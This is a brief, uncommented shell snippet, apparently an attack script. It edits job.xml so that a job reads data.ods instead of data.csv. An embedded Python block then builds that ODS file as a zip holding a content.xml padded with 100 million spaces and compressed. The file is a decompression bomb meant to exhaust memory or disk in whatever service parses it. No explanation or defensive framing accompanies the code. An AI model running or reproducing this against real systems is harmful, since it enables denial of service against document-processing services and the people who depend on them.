sed -i 's/href="data.csv"/href="data.ods"/' job.xml
/usr/bin/python3 - <<'END'
import zipfile
with zipfile.ZipFile("data.ods", "w") as z:
    z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
    rows = open("content.xml").read().split("</table:table>")
    z.writestr("content.xml", rows[0] + " " * 100000000 + "</table:table>" + rows[1], zipfile.ZIP_DEFLATED)
END
